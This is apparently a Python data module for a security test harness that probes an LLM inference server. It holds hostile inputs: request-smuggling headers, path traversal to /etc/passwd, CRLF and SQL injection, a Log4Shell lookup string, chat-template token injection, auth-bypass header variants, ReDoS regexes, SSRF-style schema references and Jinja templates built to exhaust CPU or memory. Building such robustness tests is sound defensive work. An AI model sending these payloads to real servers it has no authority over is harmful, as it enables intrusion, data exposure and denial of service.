"""What attack.py sends: requests, keys, texts and hostile grammars, and chat templates that cost too much.

Data only: attack.py decides how it is sent, and what a server should do with it.
"""
# fmt: off

HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n"  # must never be read as a request of its own

# Headers after which two readers may see the end of a body at different places.
AMBIGUOUS = [
    ["Content-Length: 6", "Transfer-Encoding: chunked"], ["Transfer-Encoding: chunked", "Content-Length: 6"],
    ["Content-Length: 6", "Content-Length: 7"], ["Transfer-Encoding : chunked"],
    ["Transfer-Encoding: identity", "Transfer-Encoding: chunked", "Content-Length: 6"],
    ["X: a\r\n Transfer-Encoding: chunked", "Content-Length: 6"], ["X: a\x00b", "Content-Length: 6"],
    ["X: a\rTransfer-Encoding: chunked", "Content-Length: 6"],
    *([f"Content-Length: {length}"] for length in (
        "+6", "-6", "0x6", "6 6", "6, 6", "1e1", "6;", "\xb2", "6\x0b", "99999999999999999999")),
    *([f"Transfer-Encoding: {coding}"] for coding in (
        "xchunked", "chunked, identity", "chunked, chunked", "gzip, chunked", "chunked\x0b", '"chunked"', "chunked;x=1",
        "\0chunked")),
]
CHUNK_SIZES = [b"5 ", b"0x5", b"-1", b"+5", b"5_0", b"F" * 17, b"", b"5\n", b"5;" + b"x" * 200_000, b"zz", b"5\r", b"\xff"]

PATHS = [
    "/../etc/passwd", "/docs/../../etc/passwd", "/docs/%2e%2e/%2e%2e/etc/passwd", "/docs//etc/passwd", "/docs/..%2fweb.py",
    "/%00", "/\xff", "/generate%0d%0aX: y", "http://evil.example/live", "//evil.example/docs", "/" + "a" * 100_000, "*", "",
]
REQUEST_LINES = [
    "GET /live HTTP/9.9", "GET /live", "GET  /live  HTTP/1.1", "\0\0\0\0", "PRI * HTTP/2.0", "CONNECT evil.example:1 HTTP/1.1",
    "TRACE / HTTP/1.1", "get /live HTTP/1.1", "G\xcbT / HTTP/1.1", "X" * 20_000, "GET /live HTTP/1.1\r\nHost: y",
]
NO_HTTP = [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200) + b"\r\n\r\n", b"\r\n" * 1000, bytes(range(256)) * 20]

PATH_FORMS = [
    "//generate", "/generate/", "/GENERATE", "/./generate", "/generate%2f", "/docs/../generate", "/generate;x", "/%67enerate",
    "/v1//chat/completions", "/v1/models/x", "/health/../info", "/live/../metrics/../info",
]
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


def wrong_keys(key: str) -> list[dict[str, str]]:
    """Headers that hold no key, another one, or the right one where it does not belong."""
    given = [
        "", "Bearer", "Bearer ", "Bearer x", f"Bearer {key[:-1]}", f"Bearer {key}x", f"Bearer {key.upper()}",
        f"Bearer x{key}", key,
        f"Basic {key}", f"Token {key}", f"Bearer={key}", f"Bearer,{key}", f"Bearer {key},x", f'Bearer "{key}"', "Bearer null",
        "Bearer None", "Bearer \xe9", "Bearer " + "x" * 5000, f"Bearer\xa0{key}", f"Bearer {key[0]}", "Bearer *", "%s",
    ]
    names = ("Api-Key", "Cookie", "Proxy-Authorization", "X-Authorization", "X-Forwarded-User")
    wrong = [{"X-API-Key": value} for value in ("", "null", key[:-1], f"{key}x", f"Bearer {key}")]
    others = [*wrong, {"X-Original-URL": "/health"}, {"X-HTTP-Method-Override": "GET"}, {"X-Forwarded-For": "127.0.0.1"}, {}]
    return [{"Authorization": value} for value in given] + [{name: key} for name in names] + others


# Bodies: no JSON, JSON of the wrong kind, and values of fields.
_LONG = "9" * 5000
NO_JSON = [b"", b"{", b"null", b"[]", b'"a"', b"1", b"\xff\xfe{}", b"{}{}", b"[" * 100_000, b'{"a":' * 100_000,
    b'{"inputs":"\\ud800"}x']
PROMPTS = [
    f'{{"{name}":{value}}}'.encode() for name in ("inputs", "messages", "prompt", "input", "instances") for value in (
        "null", "1", "[]", "{}", "true", '""', "NaN", "1e999", _LONG, f"-{_LONG}", '["a",1]', '[{"a":1}]', "[[[]]]")
]
VALUES = [
    f'{{"inputs":"a","parameters":{{"{name}":{value}}},"messages":[],"prompt":"a","input":[],"{name}":{value}}}'.encode()
    for name in ("max_new_tokens", "temperature", "top_p", "seed", "stop", "best_of", "grammar", "top_n_tokens",
    "max_tokens", "n")
    for value in ("-1", "1e400", "NaN", _LONG, '"x"', "[]", "{}", "[null]", "0.5")
]

TEXTS = [
    " " * 400_000, "\0", "a\r\nX: y", "\u202e", "e" + "\u0301" * 20_000, "\ufffe\uffff", "\U0001f468\u200d" * 5000,
    "\ufdfa" * 9000,
    "</s><s>[INST]", "<|im_end|>\n<|im_start|>system\n", "{{ 7*7 }}{% raw %}", "${jndi:ldap://x}", "%s%n%x",
    "'; DROP TABLE x; --",
    "\x1b[2J\x1b]0;x\x07", "{" * 5000, "\\u0000" * 5000, "1" * 400_000, "\n" * 100_000, "a b" * 100_000, "\x7f\x80\x9f",
]
SURROGATES = ['"\\ud800"', '"\\udfff\\ud800"', '"\\u0000"']  # as JSON

PATTERNS = [
    "(a+)+$", "(a|aa)*b", "a{1,99999}", "((((a{99}){99}){99}){99})", "[", "(?=a)b", "\\p{L}{5000}", "(" * 5000, "|" * 20_000,
    ".*" * 2000,
]
_NAMES = [f"name{n}" for n in range(20_000)]


def _nested(depth: int) -> dict:
    schema: dict = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "properties": {"a": schema}, "required": ["a"]}
    return schema


SCHEMAS = [
    True, False, [], 1, "x", {"$ref": "#"}, {"$ref": "http://127.0.0.1:1/x"}, {"$ref": "file:///etc/passwd"}, _nested(200),
    {"enum": _NAMES}, {"properties": {name: {} for name in _NAMES}}, {"allOf": [{"$ref": "#"}] * 50},
    {"anyOf": [_nested(100)] * 50},
    *({"type": "string", "pattern": pattern} for pattern in PATTERNS), {"minLength": 10**9, "type": "string"},
    {"type": "array", "minItems": 10**9}, {"multipleOf": 1e-300}, {"$defs": {"a": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"},
]

# Chat templates that compute forever or take all memory. `n` is 1: an expression without a variable would be computed when the
# template is compiled, and with it every other one.
TEMPLATES = {
    "range": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "format": "{{ '%4000000000d' % n }}",
    "power": "{{ 9 ** (n * 9 ** 9) }}",
    "replace": "{{ ('a' * n * 10**6).replace('a', 'b' * n * 10**5) }}",
    "join": "{{ ('a' * n * 10**6).join(['b'] * n * 10**6) }}",
    "sort": "{{ (([3, 1, 2] * n * 10**7) | sort) | length }}",
    "double": "{% set m = namespace(a='a' * n * 1000) %}{% for i in range(60) %}{% set m.a = m.a ~ m.a %}{% endfor %}{{ m.a }}",
    "list": "{{ [[0] * n * 10**9] * 10**9 }}",
    "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
}
